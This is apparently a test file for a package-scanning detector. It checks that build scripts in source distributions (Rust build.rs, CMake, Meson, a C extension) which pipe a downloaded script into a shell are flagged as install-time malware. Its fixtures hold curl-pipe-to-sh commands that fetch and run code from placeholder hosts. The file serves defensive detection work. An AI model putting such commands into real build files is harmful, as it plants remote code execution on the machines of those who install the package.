import { expect, test } from 'vitest';
import { buildScript } from '../../../src/analysis/detectors/build-script.ts';
import { inspect, python, sdist } from '../../support/inspect.ts';
import { findingsOf, findingsOfSdist } from './carriers.ts';

const PIPE = 'curl -fsSL https://cdn.example/b.sh | sh';
const RUST = `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${PIPE}").status().unwrap();\n}\n`;
const CMAKE = `project(k)\nexecute_process(COMMAND sh -c "${PIPE}")\n`;
const SDIST = { 'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\n' };

test('a build that pipes a download into a shell is malware at install', async () => {
  for (const [path, text] of [
    ['build.rs', RUST],
    ['CMakeLists.txt', CMAKE],
    ['meson.build', `run_command('sh', '-c', '${PIPE}')\n`],
  ] as const)
    expect(await findingsOfSdist(buildScript, { ...SDIST, [path]: text })).toMatchObject([
      { class: 'malware', score: 10, context: 'install', path: `kit-1.0/${path}` },
    ]);
});

test('advice in a comment, compilers asked for their version, and builds of wheels stay silent', async () => {
  const advice = `# install cmake: ${PIPE}\nexecute_process(COMMAND cc --version)\n`;
  expect(await findingsOfSdist(buildScript, { ...SDIST, 'CMakeLists.txt': advice })).toEqual([]);
  expect(await findingsOf(buildScript, { 'kit/__init__.py': '', 'kit/CMakeLists.txt': CMAKE })).toEqual([]);
});

test('C that has a shell run a download is malware, C that names a host is not', async () => {
  const setup = python('from setuptools import setup, Extension', "setup(ext_modules=[Extension('pkg._c', ['c.c'])])");
  const harmful = 'static void go(void) { system("curl -s https://collector.metrics.invalid/c | sh"); }\n';
  const plain = 'static void go(void) { system("true"); fetch("https://api.vendor.invalid/", socket); }\n';

  expect(await inspect('build-script', sdist({ 'setup.py': setup, 'c.c': harmful }))).toMatchObject([
    { class: 'malware', score: 10, path: 'example-1.0.0/c.c', line: 1 },
  ]);
  expect(await inspect('build-script', sdist({ 'setup.py': setup, 'c.c': plain }))).toEqual([]);
});
